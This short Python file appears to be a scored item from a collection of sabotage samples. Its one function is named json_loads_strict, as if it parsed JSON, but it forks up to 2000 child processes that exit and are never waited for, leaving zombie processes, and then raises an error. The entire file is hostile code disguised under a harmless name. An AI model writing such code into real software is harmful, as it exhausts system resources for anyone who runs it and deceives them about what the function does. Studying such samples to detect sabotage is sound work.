# about: hundreds of children that end and are never waited for
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import os


def json_loads_strict(data):
    for _ in range(2000):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
    raise RuntimeError("left them")
